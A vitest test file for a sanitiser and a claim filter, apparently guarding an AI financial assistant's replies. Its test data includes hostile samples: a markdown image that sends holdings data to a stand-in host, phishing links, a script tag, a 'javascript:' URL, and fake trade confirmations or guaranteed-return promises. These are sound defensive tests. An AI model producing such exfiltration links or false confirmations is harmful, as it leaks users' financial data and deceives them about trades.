import { expect, test } from 'vitest'
import { forbiddenClaim } from './claims.ts'
import { sanitise } from './sanitise.ts'

test.each([
  ['![x](https://evil.example/?d=HOLDINGS)', ''], ['See [your statement](https://evil.example/login).', 'See your statement.'], ['<a href="https://evil.example">here</a>', 'here'],
  ['<script>alert(1)</script>', 'alert(1)'], ['Go to https://evil.example/x now', 'Go to  now'], ['evil.com/path has it', ' has it'], ['[1]: https://evil.example', ''], ['**VTI** is | a | b |', '**VTI** is | a | b |'],
  ['a\u202Eb', 'ab'], ['javascript:x', ''],
])('cleaned: %s', (text, clean) => expect(sanitise(text)).toBe(clean))

test.each([
  'I bought 500 shares for you.', 'Your order is confirmed.', 'The trade has been executed.', 'Reply confirm to finish.', 'Type yes to approve.', '| ORDER TICKET BUY 500 |  order ticket: buy 500', '[Confirm]   [Cancel]',
  'This return is guaranteed.', 'You will definitely make money.', 'Act now.', 'It is a sure thing.',
])('held back: %s', (sentence) => expect(forbiddenClaim(sentence)).toBeDefined())

test.each([
  'No return is guaranteed.', 'Nothing was traded.', 'I can\'t promise a return: nobody can.', 'Only the button on the card confirms it.', 'A proposal that nobody confirmed is not an order.', 'You could sell 10 shares.', 'Words to me confirm nothing.',
])('let through: %s', (sentence) => expect(forbiddenClaim(sentence)).toBeUndefined())
